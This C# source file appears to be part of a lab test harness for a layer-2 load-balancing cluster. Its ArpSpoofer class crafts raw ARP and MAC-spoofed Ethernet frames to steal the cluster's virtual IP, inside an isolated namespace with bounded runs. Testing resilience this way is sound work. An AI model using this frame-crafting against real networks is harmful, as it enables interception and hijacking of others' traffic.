using System.Buffers.Binary;
using System.Diagnostics;
using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Text.RegularExpressions;

namespace L2Balance.Lab.Cluster;

/// <summary>What a <see cref="ArpSpoofer"/> sends in each round.</summary>
/// <param name="ClaimVip">A gratuitous ARP (broadcast) and an ARP reply to the router, both saying "the VIP is at the attacker's MAC".</param>
/// <param name="ClusterMacSource">A broadcast IPv4/UDP frame whose Ethernet source is the cluster MAC (in unicast-flood mode the switch learns it on the attacker's port).</param>
public sealed record AttackPlan(bool ClaimVip, string? ClusterMacSource);

/// <summary>What a <see cref="ArpSpoofer"/> run sent.</summary>
/// <param name="FirstFrameUtc">When its first frame left (wall clock, comparable with the daemons' event times).</param>
/// <param name="Rounds">Rounds sent.</param>
/// <param name="Frames">Frames sent.</param>
/// <param name="SendErrors">Frames the kernel refused.</param>
public sealed record AttackReport(DateTime FirstFrameUtc, int Rounds, int Frames, int SendErrors)
{
    public override string ToString() => $"attacker: {Rounds} rounds, {Frames} frames, {SendErrors} send errors, first frame at {FirstFrameUtc:HH:mm:ss.fff}";
}

/// <summary>
/// A host on the cluster's segment that steals the VIP at layer 2 (SegmentAttacker floods adverts instead): it claims the VIP
/// in ARP and sends frames sourced from the cluster MAC, from a raw AF_PACKET socket opened in its
/// own namespace (198.18.0.21, MAC 02:00:00:00:00:15). Every run is bounded in rounds and in time.
/// Disposing takes its link down, which also makes the switch forget what it learned on its port.
/// </summary>
public sealed partial class ArpSpoofer : IAsyncDisposable
{
    /// <summary>The attacker's own MAC.</summary>
    public const string Mac = "02:00:00:00:00:15";

    /// <summary>The attacker's own address.</summary>
    public static readonly IPAddress Address = IPAddress.Parse("198.18.0.21");

    private readonly Socket _socket;

    private ArpSpoofer(LabHost host, Socket socket)
    {
        Host = host;
        _socket = socket;
    }

    /// <summary>The attacker's namespace.</summary>
    public LabHost Host { get; }

    /// <summary>Adds the attacker's host to <paramref name="lab"/>'s switch and opens its raw socket.</summary>
    public static async Task<ArpSpoofer> StartAsync(ClusterLab lab)
    {
        ArgumentNullException.ThrowIfNull(lab);
        var host = lab.Network.AddHost($"atk{Environment.TickCount64 % 100000}");
        lab.Network.ConnectToSwitch(lab.Switch, host, "eth0");
        LabNetwork.Ip(["-n", host.Namespace, "link", "set", "eth0", "address", Mac]);
        host.AddAddress("eth0", $"{Address}/24");
        var link = await host.RunAsync("ip", ["-o", "link", "show", "eth0"], TimeSpan.FromSeconds(10)).ConfigureAwait(false);
        link.EnsureSuccess();
        var index = LinkLayerEndPoint.IndexIn(link.StdOut);
        var socket = host.OpenSocket(AddressFamily.Packet, SocketType.Raw, ProtocolType.Unspecified);
        try
        {
            // Protocol 0: bound to the interface for sending, with no receive hook (nothing queues up unread).
            socket.Bind(new LinkLayerEndPoint(0, index));
            return new ArpSpoofer(host, socket);
        }
        catch
        {
            socket.Dispose();
            throw;
        }
    }

    /// <summary>
    /// Sends <paramref name="plan"/>'s frames once every <paramref name="interval"/> for
    /// <paramref name="duration"/> (at most duration / interval + 1 rounds).
    /// </summary>
    public async Task<AttackReport> RunAsync(AttackPlan plan, TimeSpan duration, TimeSpan interval, CancellationToken cancellationToken = default)
    {
        ArgumentNullException.ThrowIfNull(plan);
        ArgumentOutOfRangeException.ThrowIfLessThan(interval, TimeSpan.FromMilliseconds(1));
        var maxRounds = (int)(duration / interval) + 1;
        var frames = Frames(plan);
        var clock = Stopwatch.StartNew();
        var first = DateTime.MinValue;
        int rounds = 0, sent = 0, errors = 0;
        while (rounds < maxRounds && clock.Elapsed < duration && !cancellationToken.IsCancellationRequested)
        {
            if (rounds == 0)
            {
                first = DateTime.UtcNow;
            }
            foreach (var frame in frames)
            {
                try
                {
                    _socket.Send(frame);
                    sent++;
                }
                catch (SocketException)
                {
                    errors++;
                }
            }
            rounds++;
            await Task.Delay(interval, cancellationToken).ConfigureAwait(false);
        }
        return new AttackReport(first, rounds, sent, errors);
    }

    public async ValueTask DisposeAsync()
    {
        _socket.Dispose();
        // The switch flushes the MACs it learned on a port whose link goes down.
        await Host.RunAsync("ip", ["link", "set", "eth0", "down"], TimeSpan.FromSeconds(10)).ConfigureAwait(false);
    }

    private static List<byte[]> Frames(AttackPlan plan)
    {
        var own = ParseMac(Mac);
        var frames = new List<byte[]>();
        if (plan.ClaimVip)
        {
            // Gratuitous (target = sender, as Linux's arp_is_garp wants) to everyone, and a plain reply to the router.
            frames.Add(Arp(ParseMac("ff:ff:ff:ff:ff:ff"), own, own, ClusterLab.VipAddress, own, ClusterLab.VipAddress));
            frames.Add(Arp(ParseMac(ClusterLab.RouterMac), own, own, ClusterLab.VipAddress, ParseMac(ClusterLab.RouterMac), ClusterLab.RouterSegmentAddress));
        }
        if (plan.ClusterMacSource is { } clusterMac)
        {
            frames.Add(UdpBroadcast(ParseMac(clusterMac)));
        }
        return frames;
    }

    /// <summary>An ARP reply (RFC 826), Ethernet header included, padded to 60 bytes.</summary>
    private static byte[] Arp(byte[] ethernetDestination, byte[] ethernetSource, byte[] senderMac, IPAddress senderIp, byte[] targetMac, IPAddress targetIp)
    {
        var frame = new byte[60];
        ethernetDestination.CopyTo(frame, 0);
        ethernetSource.CopyTo(frame, 6);
        BinaryPrimitives.WriteUInt16BigEndian(frame.AsSpan(12), 0x0806);
        BinaryPrimitives.WriteUInt16BigEndian(frame.AsSpan(14), 1);
        BinaryPrimitives.WriteUInt16BigEndian(frame.AsSpan(16), 0x0800);
        frame[18] = 6;
        frame[19] = 4;
        BinaryPrimitives.WriteUInt16BigEndian(frame.AsSpan(20), 2);
        senderMac.CopyTo(frame, 22);
        senderIp.GetAddressBytes().CopyTo(frame, 28);
        targetMac.CopyTo(frame, 32);
        targetIp.GetAddressBytes().CopyTo(frame, 38);
        return frame;
    }

    /// <summary>A broadcast IPv4/UDP datagram (198.18.0.21 → 198.18.0.255:9, discard) with <paramref name="source"/> as Ethernet source.</summary>
    private static byte[] UdpBroadcast(byte[] source)
    {
        var frame = new byte[60];
        ParseMac("ff:ff:ff:ff:ff:ff").CopyTo(frame, 0);
        source.CopyTo(frame, 6);
        BinaryPrimitives.WriteUInt16BigEndian(frame.AsSpan(12), 0x0800);
        var ip = frame.AsSpan(14, 20);
        ip[0] = 0x45;
        BinaryPrimitives.WriteUInt16BigEndian(ip[2..], 20 + 8 + 4);
        ip[8] = 64;
        ip[9] = 17;
        Address.GetAddressBytes().CopyTo(ip[12..]);
        IPAddress.Parse("198.18.0.255").GetAddressBytes().CopyTo(ip[16..]);
        BinaryPrimitives.WriteUInt16BigEndian(ip[10..], Checksum(ip));
        var udp = frame.AsSpan(34, 12);
        BinaryPrimitives.WriteUInt16BigEndian(udp, 9);
        BinaryPrimitives.WriteUInt16BigEndian(udp[2..], 9);
        BinaryPrimitives.WriteUInt16BigEndian(udp[4..], 12);
        return frame;
    }

    private static ushort Checksum(ReadOnlySpan<byte> header)
    {
        uint sum = 0;
        for (var i = 0; i < header.Length; i += 2)
        {
            sum += BinaryPrimitives.ReadUInt16BigEndian(header[i..]);
        }
        while (sum > 0xffff)
        {
            sum = (sum & 0xffff) + (sum >> 16);
        }
        return (ushort)~sum;
    }

    private static byte[] ParseMac(string mac) => Convert.FromHexString(mac.Replace(":", string.Empty, StringComparison.Ordinal));
}
